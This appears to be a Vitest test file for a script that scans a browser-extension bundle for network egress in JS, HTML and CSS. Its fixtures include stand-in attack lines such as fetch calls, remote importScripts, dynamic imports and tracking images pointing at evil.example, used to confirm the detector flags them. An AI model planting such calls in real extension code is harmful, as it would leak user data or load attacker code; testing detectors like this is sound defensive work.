/**
 * The bundle egress check (scripts/check-bundle-egress.mjs) fails on every kind of network reach it knows, in JS,
 * HTML and CSS, and lets through only what its allowances name, near the code they name.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';

const SCRIPT = resolve(import.meta.dirname, 'check-bundle-egress.mjs');

function check(files: Record<string, string>, allowUnused = true): { ok: boolean; out: string } {
  const dir = mkdtempSync(join(tmpdir(), 'holdfast-egress-'));
  writeFileSync(join(dir, 'manifest.json'), '{}');
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  const r = spawnSync(process.execPath, [SCRIPT, ...(allowUnused ? ['--allow-unused'] : []), dir], { encoding: 'utf8' });
  return { ok: r.status === 0, out: `${r.stdout}${r.stderr}` };
}

describe('bundle egress check', () => {
  it('passes a bundle without network code', () => {
    const r = check({ 'background.js': 'const a = 1; console.log("https://x.com/help is only text");', 'vault.html': '<script type="module" src="/chunks/vault.js"></script>' });
    expect(r.out).toContain('no network API');
    expect(r.ok).toBe(true);
  });

  it.each([
    ['content-scripts/x.js', 'window.fetch("https://evil.example/c?d=1")', 'fetch'],
    ['chunks/a.js', 'const x = new XMLHttpRequest();', 'XMLHttpRequest'],
    ['chunks/a.js', 'new WebSocket("wss://evil.example")', 'WebSocket'],
    ['chunks/a.js', 'navigator.sendBeacon("/x", data)', 'sendBeacon'],
    ['chunks/a.js', 'new EventSource("/s")', 'EventSource'],
    ['background.js', 'importScripts("https://evil.example/x.js")', 'importScripts'],
    ['chunks/a.js', 'new Worker(url)', 'new Worker'],
    ['chunks/a.js', 'img.src="https://evil.example/p.gif"', 'remote src/href in JS'],
    ['chunks/a.js', 'el.style.background = "url(https://evil.example/p.png)"', 'remote url() in JS'],
    ['chunks/a.js', 'import("https://evil.example/m.js")', 'import(url)'],
    ['vault.html', '<img src="https://evil.example/p.gif">', 'remote attribute'],
    ['vault.html', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta refresh'],
    ['vault.html', '<link rel="preconnect" href="/x">', 'preconnect/prefetch'],
    ['vault.html', '<script>alert(1)</script>', 'inline script'],
    ['assets/s.css', 'body { background: url("//evil.example/p.png") }', 'remote url() in CSS'],
    ['assets/s.css', '@import url(https://evil.example/s.css);', 'remote @import'],
  ])('fails on %s: %s', (file, text, api) => {
    const r = check({ [file]: text });
    expect(r.ok).toBe(false);
    expect(r.out).toContain(file);
    expect(r.out).toContain(api);
  });

  it('allows a named dependency occurrence only in its file, next to its code, and only as often as named', () => {
    const worker = 'if(workerUrl){try{const g=new Worker(n)}catch(g){c.log.warn("Failed to new Worker",g)}}';
    expect(check({ 'dom-render.js': worker }).ok).toBe(true);
    expect(check({ 'content-scripts/x.js': worker }).ok, 'another file').toBe(false);
    expect(check({ 'dom-render.js': 'const g=new Worker(n)' }).ok, 'without the code it names').toBe(false);
    expect(check({ 'dom-render.js': `${worker};${worker}` }).ok, 'more than allowed').toBe(false);
  });

  it('fails when an allowance matches nothing (stale)', () => {
    const r = check({ 'background.js': 'const a = 1;' }, false);
    expect(r.ok).toBe(false);
    expect(r.out).toMatch(/matched nothing/);
  });
});
